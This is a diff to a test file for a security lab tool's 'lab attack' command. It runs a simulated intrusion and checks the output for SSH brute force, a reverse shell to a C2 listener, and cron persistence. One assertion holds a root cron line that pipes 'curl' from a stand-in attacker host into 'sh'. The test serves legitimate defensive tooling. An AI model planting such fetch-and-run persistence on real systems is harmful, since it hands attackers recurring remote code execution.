@@ -1,10 +1,11 @@
-import { execFileSync } from 'node:child_process';
+import { execFile, execFileSync } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { afterAll, describe, expect, it } from 'vitest';
+import { fileURLToPath } from 'node:url';
 import { removeLabNamespaces } from '@cordon/lab';
 import { runCli } from '../run-cli.ts';
 
@@ -22,6 +23,7 @@ if (skip !== undefined && process.env.CI === 'true')
   throw new Error(`CI=true but lab CLI tests cannot run: ${skip}`);
 if (skip !== undefined) console.warn(`skipping lab CLI tests: ${skip}`);
 
+const CORDON = fileURLToPath(new URL('../../bin/cordon.js', import.meta.url));
 const dir = mkdtempSync(join(tmpdir(), 'cordon-lab-cli-'));
 const name = `cli${randomBytes(3).toString('hex')}`;
 afterAll(async () => {
@@ -69,21 +71,44 @@ describe.skipIf(skip !== undefined)('cordon lab', () => {
       /^export CORDON_SERVER=http:\/\/127\.0\.0\.1:\d+ CORDON_TOKEN=\S+ CORDON_TENANT=\S+\n$/,
     );
     const log = join(dir, 'auth.log');
-    const attack = await cli(['lab', 'attack', '--log', log, '--port', '5555', ...where]);
-    expect(attack.code).toBe(0);
-    expect(JSON.parse(attack.out)).toMatchObject({
-      c2: { address: '198.18.0.200', port: 5555 },
-      bruteForceAttempts: 12,
-    });
+    // As its own process, the way a user runs it: it must exit once the attack has run. Until
+    // issue 14 it never did — the C2 listener and the reverse shell it started stayed alive
+    // with their pipes open to it, and the listener waits for its stdin to close.
+    const attack = await new Promise<{ code: number | null; out: string; err: string }>(
+      (resolve) => {
+        const child = execFile(
+          process.execPath,
+          [CORDON, 'lab', 'attack', '--log', log, '--port', '5555', ...where],
+          { timeout: 120_000, killSignal: 'SIGKILL' },
+          (error, out, err) =>
+            resolve({ code: error === null ? 0 : (child.exitCode ?? null), out, err }),
+        );
+      },
+    );
+    expect(attack.code, `${attack.out}${attack.err}`).toBe(0);
+    // What happened, as a person reads it.
+    expect(attack.out).toMatch(/^attack on h1 \(198\.18\.0\.10\) from 198\.18\.0\.200/);
+    expect(attack.out).toMatch(/brute force +12 connection attempts to port 22/);
+    expect(attack.out).toMatch(
+      /connected to the C2 listener 198\.18\.0\.200:5555, exited with code \d+/,
+    );
+    expect(attack.out).toMatch(/C2 listener +1 connection\(s\) from 198\.18\.0\.10; stopped/);
+    expect(attack.out).toMatch(/persistence +cron entry in \/etc\/cron\.d\/0hourly-update: /);
     expect(
       readFileSync(log, 'utf8').match(/sshd\[\d+\]: Failed password for .* from 198\.18\.0\.200/g),
     ).toHaveLength(12);
+    // The cron entry sits in the host agent's persistence root, where remove-persistence works.
+    expect(
+      readFileSync(join(dir, name, 'agents', 'h1', 'root', 'etc/cron.d/0hourly-update'), 'utf8'),
+    ).toMatch(
+      /^SHELL=\/bin\/sh\n\*\/10 \* \* \* \* root curl -fsS http:\/\/198\.18\.0\.200:5555\/u \| sh\n$/,
+    );
     expect((await cli(['lab', 'down', ...where])).code).toBe(0);
     expect(execFileSync('ip', ['netns', 'list']).toString()).not.toContain(name);
     // No server, relay or agent process of the lab outlives it.
     expect(execFileSync('ps', ['-eo', 'args']).toString()).not.toContain(join(dir, name));
     expect((await cli(['lab', 'status', ...where])).code).toBe(1);
-  });
+  }, 240_000);
 
   it('refuses bad arguments with a clear message', async () => {
     const bad = await cli(['lab', 'up', '--hosts', '0', '--name', name, '--state-dir', dir]);
